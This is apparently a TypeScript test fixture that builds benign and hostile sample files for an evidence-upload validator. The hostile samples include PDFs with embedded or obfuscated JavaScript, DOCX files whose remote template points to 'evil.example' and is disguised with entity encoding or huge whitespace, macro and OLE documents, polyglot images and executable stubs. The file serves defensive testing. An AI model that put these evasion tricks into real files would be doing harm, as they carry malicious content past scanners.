/** Files that somebody might hand in as evidence: good ones, and those that must be refused. */
import { deflateSync } from 'node:zlib';
import { strToU8, zipSync, type Zippable } from 'fflate';
import { craftedEvidence } from '../crafted/evidence.ts';
import { bookOf, ofdOf, wordOf } from '../crafted/office.ts';
import { chunk, gps, photoWith, pngWith } from '../crafted/pictures.ts';
import { picture } from '../generator/picture.ts';

export const png = picture(7);
export const webp = craftedEvidence['WebP：有损']?.bytes() ?? new Uint8Array();

export const pdf = strToU8('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');
export const pdfWithScript = strToU8(
  '%PDF-1.7\n1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj\n%%EOF\n',
);
/** /JavaScript with a letter written as #61. */
export const pdfWithHiddenScript = strToU8(
  '%PDF-1.7\n1 0 obj\n<< /S /J#61vaScript >>\nendobj\n%%EOF\n',
);
/** A PDF whose objects are packed into a stream, as every PDF since 1.5 may have them. */
const packedPdf = (object: string, filter = '/FlateDecode') => {
  const packed = deflateSync(`4 0 ${object}`);
  return Buffer.concat([
    Buffer.from('%PDF-1.5\n% stream\n2 0 obj\n<< /Type /Obj#53tm /N 1 /First 4 '),
    Buffer.from(`/Filter ${filter} /Length ${String(packed.length)} >>\nstream\n`),
    filter === '/FlateDecode' ? packed : Buffer.from('密文'),
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
};
export const pdfPacked = packedPdf('<< /Type /Catalog >>');
export const pdfWithPackedScript = packedPdf('<< /S /JavaScript /JS (app.alert(1)) >>');
export const pdfUnreadable = packedPdf('', '/Crypt');
const zip = (files: Record<string, string>) =>
  zipSync(
    Object.fromEntries(
      Object.entries(files).map(([name, text]) => [name, strToU8(text)]),
    ) satisfies Zippable,
  );

export const docx = wordOf({});
export const xlsx = bookOf({});
export const ofd = ofdOf();
const crafted = (what: string): Uint8Array => craftedEvidence[what]?.bytes() ?? new Uint8Array();
export const docm = crafted('Word：带宏的文档改名为 docx');
export const docxWithObject = crafted('Word：OLE 对象换了后缀');
export const docxWithTemplate = crafted('Word：共享文件夹里的模板');
const TEMPLATE =
  'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';
const docxWith = (relationships: string) =>
  wordOf({
    more: { 'word/_rels/settings.xml.rels': `<Relationships>${relationships}</Relationships>` },
  });
/** Attributes the other way round, in the other quotes, a letter as a number. */
export const docxWithHiddenTemplate = docxWith(
  `<r:Relationship TargetMode='Extern&#97;l' Target='http://evil.example/t.dotm' Type='${TEMPLATE}'/>`,
);
/** Behind more spaces than anybody looks through. */
export const docxWithFarTemplate = docxWith(
  `${' '.repeat(5_000_000)}<Relationship Type="${TEMPLATE}" Target="t" TargetMode="External"/>`,
);
const HYPERLINK = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink';
/** A link that somebody may click is no harm. */
export const docxWithLink = docxWith(
  `<Relationship Type="${HYPERLINK}" Target="http://a.example/frame" TargetMode="External"/>`,
);
/** As many links as fit. */
export const docxToSearchLong = docxWith(
  `<Relationship Type="${HYPERLINK}" Target="http://a.example/" TargetMode="External"/>`.repeat(
    20_000,
  ),
);
export const plainZip = zip({ '说明.txt': '说明' });
export const oldDoc = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
export const html = strToU8('<!DOCTYPE html><script>alert(1)</script>');
export const svg = strToU8('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>');
export const exe = Buffer.from('MZ\u0090\0\u0003\0', 'latin1');
export const shell = strToU8('#!/bin/sh\ntouch /tmp/x\n');

/** A TIFF block with one entry: the camera's maker, or a pointer to GPS values. */
function tiff(tag: number): Buffer {
  const block = Buffer.alloc(8 + 2 + 12 + 4);
  block.write('II', 0, 'latin1');
  block.writeUInt16LE(42, 2);
  block.writeUInt32LE(8, 4);
  block.writeUInt16LE(1, 8);
  block.writeUInt16LE(tag, 10);
  block.writeUInt16LE(4, 12);
  block.writeUInt32LE(1, 14);
  block.writeUInt32LE(26, 18);
  return block;
}

const MAKER = 0x010f;
const GPS = 0x8825;

function jpeg(app1: Buffer): Uint8Array {
  const head = Buffer.from([0xff, 0xe1, 0, 0]);
  head.writeUInt16BE(app1.length + 2, 2);
  return photoWith(head, app1);
}

/** A picture of which only a part arrived, one that ends in a page, and a page with a picture's first bytes. */
export const pngHalf = png.subarray(0, png.length - 20);
export const pngWithPage = Buffer.concat([png, html]);
export const pageAsPng = Buffer.concat([png.subarray(0, 8), html]);

const exif = (tag: number) => Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff(tag)]);

export const jpegPlain = jpeg(exif(MAKER));
export const jpegHalf = jpegPlain.subarray(0, jpegPlain.length - 2);
export const webpHalf = webp.subarray(0, 60);
export const jpegWithPosition = jpeg(exif(GPS));
export const jpegWithXmpPosition = jpeg(
  Buffer.from('http://ns.adobe.com/xap/1.0/\0<x exif:GPSLatitude="38,17N"/>', 'latin1'),
);

export const pngWithPosition = pngWith(chunk('eXIf', gps));
export const webpWithPosition =
  craftedEvidence['WebP：EXIF 里的拍摄地点']?.bytes() ?? new Uint8Array();
